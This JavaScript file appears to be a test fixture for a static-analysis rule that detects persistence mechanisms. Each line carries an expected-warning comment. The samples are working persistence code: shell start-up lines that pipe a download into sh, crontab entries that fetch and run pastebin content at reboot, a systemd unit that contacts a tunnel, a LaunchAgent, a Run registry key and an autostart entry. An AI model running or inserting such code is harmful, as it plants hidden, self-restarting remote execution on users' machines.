const fs = require('fs');
const fsp = require('fs/promises');
const os = require('os');
const path = require('path');
const { execSync, spawnSync } = require('child_process');

const home = os.homedir();
const rc = ['.z', 'shrc'].join('');

// a download run in every new shell, the file name computed
fs.appendFileSync(path.join(home, rc), '\ncurl -s http://203.0.113.4/p | sh &\n'); // want "critical SV648: .*start-up file.*pipes a download"

// an unknown program started from the start-up file
fs.appendFileSync(`${process.env.HOME}/.bashrc`, '\n~/.cache/.agent/run --quiet &\n'); // want "high SV648: .*bashrc"

async function launch() {
  // a launch agent through fs/promises
  const plist = path.join(home, 'Library', 'LaunchAgents', 'com.sync.agent.plist');
  await fsp.writeFile(plist, '<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>~/.cache/s</string></array></dict></plist>'); // want "high SV648: .*LaunchAgents"
  // a user systemd unit that contacts a tunnel
  await fsp.writeFile(path.join(home, '.config', 'systemd', 'user', 'sync.service'), '[Service]\nExecStart=/usr/bin/wget -qO- https://relay.trycloudflare.com/x\n'); // want "critical SV648: .*systemd.*trycloudflare"
}
launch();

// cron through child_process
execSync('(crontab -l 2>/dev/null; echo "*/5 * * * * node ~/.cache/s.js") | crontab -'); // want "high SV648: .*crontab"
spawnSync('crontab', ['-'], { input: '@reboot curl -s https://pastebin.com/raw/abc | sh\n' }); // want "critical SV648: .*crontab entry"

// a Windows Run key
execSync('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /t REG_SZ /d "node C:\\sync.js" /f'); // want "high SV648: .*Run registry key"

// XDG autostart
fs.writeFileSync(path.join(home, '.config', 'autostart', 'sync.desktop'), '[Desktop Entry]\nExec=node /opt/sync.js\n'); // want "high SV648: .*autostart"
